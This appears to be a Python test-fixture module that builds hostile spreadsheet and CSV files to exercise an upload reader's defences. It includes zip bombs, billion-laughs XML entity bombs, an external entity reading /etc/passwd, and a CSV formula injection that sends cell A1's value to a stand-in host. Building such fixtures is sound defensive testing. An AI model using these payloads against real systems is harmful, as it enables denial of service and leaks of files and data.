"""Broken and hostile files, made here: small on disk, large or wrong once opened."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterable, Sequence
from itertools import repeat
from xml.sax.saxutils import escape

from tests.intake.history.ledger_kit import figures

MEGABYTE = 1 << 20
HEADINGS = ("unit_code", "period", "indicator_code", "numerator", "denominator", "value", "note")
CLEAN_ROW = ("20", "2026-03", "TTHC_DUNGHAN", 49, 50, None, None)
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>{more}</Types>'
)
STYLES_TYPE = (
    '<Override PartName="/xl/styles.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROOT_RELATIONS = (
    f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{OFFICE}/officeDocument"'
    ' Target="xl/workbook.xml"/></Relationships>'
)
RELATIONS = (
    f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{OFFICE}/worksheet"'
    ' Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{OFFICE}/styles" Target="styles.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="BC" sheetId="1" r:id="r1"/></sheets>'
    "</workbook>"
)
STYLES = (
    f'<styleSheet xmlns="{MAIN}"><fonts><font/></fonts><fills><fill/></fills><borders><border/></borders>'
    "<cellStyleXfs><xf/></cellStyleXfs><cellXfs><xf/></cellXfs></styleSheet>"
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE bomb [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    + "]>"
)
SHEET_START = f'<worksheet xmlns="{MAIN}">'
SHEET_END = "</sheetData></worksheet>"


def workbook(sheet: Iterable[str], **parts: str) -> bytes:
    """An .xlsx of hand-written parts; `sheet` is the one sheet's XML in pieces, `parts` replace others by name."""
    texts = {
        "content_types": ("[Content_Types].xml", CONTENT_TYPES.format(more=STYLES_TYPE)),
        "root": ("_rels/.rels", ROOT_RELATIONS),
        "relations": ("xl/_rels/workbook.xml.rels", RELATIONS),
        "workbook": ("xl/workbook.xml", WORKBOOK),
        "styles": ("xl/styles.xml", STYLES),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for key, (name, text) in texts.items():
            archive.writestr(name, parts.get(key, text))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            for piece in sheet:
                stream.write(piece.encode())
    return buffer.getvalue()


def row_xml(number: int, cells: Sequence[object]) -> str:
    """Return one row of a sheet: texts in the cell itself, numbers as numbers."""
    written = []
    for letter, cell in zip("ABCDEFGHIJ", cells, strict=False):
        if isinstance(cell, str):
            written.append(f'<c r="{letter}{number}" t="inlineStr"><is><t>{escape(cell)}</t></is></c>')
        elif cell is not None:
            written.append(f'<c r="{letter}{number}"><v>{cell}</v></c>')
    return f'<row r="{number}">{"".join(written)}</row>'


def sheet(*rows: Sequence[object], more: Iterable[str] = (), dimension: str = "") -> Iterable[str]:
    """Return a sheet with the headings of BC, these rows, and the XML that follows them."""
    yield SHEET_START
    yield f'<dimension ref="{dimension}"/><sheetData>' if dimension else "<sheetData>"
    yield "".join(row_xml(number, cells) for number, cells in enumerate((HEADINGS, *rows), 1))
    yield from more
    yield SHEET_END


def zip_bomb() -> bytes:
    """600 MB of blanks in one sheet."""
    return workbook(sheet(CLEAN_ROW, more=repeat(" " * MEGABYTE, 600)))


def lying_zip_bomb() -> bytes:
    """600 MB of blanks in one sheet, with a directory and a header that say 1 KB."""
    content = bytearray(zip_bomb())
    told = struct.pack("<I", 1024)
    central = content.rfind(b"PK\x01\x02")
    content[central + 24 : central + 28] = told
    return bytes(content)


def quine_of_parts() -> bytes:
    """Ten thousand directory entries that all name the same part."""
    content = workbook(sheet(CLEAN_ROW, more=repeat(" " * MEGABYTE, 20)))
    end = content.rfind(b"PK\x05\x06")
    size, start = struct.unpack("<II", content[end + 12 : end + 20])
    last = content[content.rfind(b"PK\x01\x02") : end]
    entries = content[start:end] + last * 10_000
    tail = (
        content[end : end + 8]
        + struct.pack("<HHII", 10_006, 10_006, len(entries), start)
        + content[end + 20 :]
    )
    assert len(entries) > size
    return content[:start] + entries + tail


def xml_bomb() -> bytes:
    """A billion laughs inside the sheet."""
    return workbook([LAUGHS, *sheet(CLEAN_ROW)])


def xml_bomb_in_cell() -> bytes:
    """A billion laughs inside a cell's text."""
    text = "".join(sheet(("20", "2026-03", "TTHC_DUNGHAN", 49, 50, None, "LAUGH"))).replace("LAUGH", "&a9;")
    return workbook([LAUGHS + text])


def xml_bomb_in_styles() -> bytes:
    """A billion laughs where only the writer of the annotated copy looks; a warning makes it look."""
    styles = LAUGHS + STYLES.replace(
        "<fonts>", '<numFmts><numFmt numFmtId="200" formatCode="&a9;"/></numFmts><fonts>'
    )
    return workbook(sheet(("20", "2026-03", "TTHC_DUNGHAN", "-", "-", None, None)), styles=styles)


def external_entity() -> bytes:
    """A cell that asks the reader for a file of ours."""
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    text = "".join(sheet(("20", "2026-03", "TTHC_DUNGHAN", 49, 50, None, "LAUGH"))).replace(
        "LAUGH", "&secret;"
    )
    return workbook([head + text])


def huge_dimension() -> bytes:
    """A sheet that says it is 17 billion cells large, and has one row."""
    return workbook(sheet(CLEAN_ROW, dimension="A1:XFD1048576"))


def far_cell() -> bytes:
    """One cell in the last corner of the sheet."""
    return workbook(sheet(CLEAN_ROW, more=['<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']))


def many_far_cells() -> bytes:
    """More cells at the end of the sheet than stray ones could be."""
    rows = [f'<row r="{row}"><c r="XFD{row}"><v>1</v></c></row>' for row in range(1_048_540, 1_048_577)]
    return workbook(sheet(CLEAN_ROW, more=rows))


def fairly_far_cell() -> bytes:
    """One cell far enough away that a dense table of what lies between takes gigabytes."""
    return workbook(sheet(CLEAN_ROW, more=['<row r="400000"><c r="ALL400000"><v>1</v></c></row>']))


def macro_file() -> bytes:
    """A workbook with a macro project."""
    buffer = io.BytesIO(workbook(sheet(CLEAN_ROW)))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return buffer.getvalue()


def encrypted() -> bytes:
    """A workbook with a password as Excel writes it: a compound file that holds an encrypted package."""
    return compound_file(["EncryptionInfo", "EncryptedPackage"])


def compound_file(streams: Sequence[str]) -> bytes:
    """A compound file (as .xls and encrypted workbooks are) with empty streams of these names."""
    sector = 512
    none, end = 0xFFFFFFFF, 0xFFFFFFFE
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0).ljust(sector - len(header), b"\xff")
    table = struct.pack("<II", none - 2, end).ljust(sector, b"\xff")
    entries = [_directory_entry("Root Entry", 5, child=1)]
    for number, name in enumerate(streams, 1):
        entries.append(_directory_entry(name, 2, right=number + 1 if number < len(streams) else None))
    return header + table + b"".join(entries).ljust(sector, b"\0")


def _directory_entry(name: str, kind: int, child: int | None = None, right: int | None = None) -> bytes:
    none = 0xFFFFFFFF
    encoded = (name + "\0").encode("utf-16-le")
    return encoded.ljust(64, b"\0") + struct.pack(
        "<HBBIII36xIQ",
        len(encoded),
        kind,
        1,
        none,
        none if right is None else right,
        none if child is None else child,
        0xFFFFFFFE,
        0,
    )


def truncated() -> bytes:
    """The first two thirds of a workbook."""
    content = workbook(sheet(*[CLEAN_ROW] * 50))
    return content[: len(content) * 2 // 3]


def million_empty_rows() -> bytes:
    """A clean row, then a million rows without a cell."""
    return workbook(sheet(CLEAN_ROW, more=(f'<row r="{number}"/>' for number in range(3, 1_000_003))))


def million_styled_rows() -> bytes:
    """A clean row, then a million rows whose cells have a format and no value."""
    rows = (f'<row r="{number}"><c r="A{number}" s="0"/></row>' for number in range(3, 1_000_003))
    return workbook(sheet(CLEAN_ROW, more=rows))


def million_spaces() -> bytes:
    """A clean row, then a million rows with a space in each."""
    rows = (
        f'<row r="{number}"><c r="A{number}" t="str"><v> </v></c></row>' for number in range(3, 1_000_003)
    )
    return workbook(sheet(CLEAN_ROW, more=rows))


def million_empty_csv_rows() -> bytes:
    """A clean CSV, then a million lines of commas."""
    return figures(3) + b",,,,,,\n" * 1_000_000


def large_text() -> bytes:
    """10 MB of text in the note of a clean row."""
    return workbook(sheet((*CLEAN_ROW[:6], "Kiểm tra " * (10 * MEGABYTE // 11))))


def large_number_text() -> bytes:
    """10 MB of digits where a number should be."""
    return workbook(sheet(("20", "2026-03", "TTHC_DUNGHAN", "1." * (5 * MEGABYTE), 50, None, None)))


def large_csv_text() -> bytes:
    """10 MB of text in one field of a CSV."""
    return figures(3)[:-1] + "Kiểm tra ".encode() * (10 * MEGABYTE // 11) + b"\n"


def long_csv_text() -> bytes:
    """A field of 1.1 million letters, which no reader stops at by itself."""
    return figures(3)[:-1] + "Kiểm tra ".encode() * (1_100_000 // 9) + b"\n" + figures(3)


def one_endless_quote() -> bytes:
    """A CSV with a quote that is never closed, and 5 MB of blank lines after it."""
    return figures(3) + b'20,2026-04,"' + b",,,,,,\n" * (5 * MEGABYTE // 7)


def html_table() -> bytes:
    """A web page named .xls, as many systems write it."""
    cells = "".join(f"<td>{heading}</td>" for heading in HEADINGS)
    return f"<html><meta charset='utf-8'><table><tr>{cells}</tr></table></html>".encode()


def formula_injection() -> bytes:
    """A clean CSV whose note is a formula for whoever opens the export."""
    return figures(3)[:-1] + b'"=HYPERLINK(""http://example.invalid/?x=""&A1,""x"")"\n'


Maker = Callable[[], bytes]
